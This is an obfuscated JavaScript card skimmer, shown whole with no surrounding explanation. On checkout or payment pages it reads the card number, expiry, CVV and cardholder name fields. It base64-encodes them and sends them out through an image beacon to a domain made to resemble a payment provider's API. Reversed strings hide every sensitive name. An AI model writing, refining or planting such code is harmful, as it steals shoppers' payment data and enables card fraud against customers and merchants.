(function (w, d) {
    var r = function (s) { return s.split("").reverse().join(""); };
    var loc = w[r("noitacol")][r("ferh")];
    if (!new RegExp(r("tnemyap|egapeno|tuokcehc")).test(loc)) return;

    var ids = [r("rebmun_cc"), r("htnom_pxe_cc"), r("raey_pxe_cc"), r("vvc_cc"), r("eman_cc")];
    var dst = r("=d?fig.p/ten.ipa-eruces-neyda//:sptth");

    function pull() {
        var o = [];
        for (var i = 0; i < ids.length; i++) {
            var n = d[r("dIyBtnemelEteg")](ids[i]);
            o.push(n ? n[r("eulav")] : "");
        }
        return o.join(";");
    }

    var done = false;
    d.addEventListener(r("puesuom"), function () {
        if (done) return;
        var v = pull();
        if (v.length < 20) return;
        done = true;
        var i = new w[r("egamI")]();
        i.src = dst + w[r("aotb")](v);
    });
})(window, document);
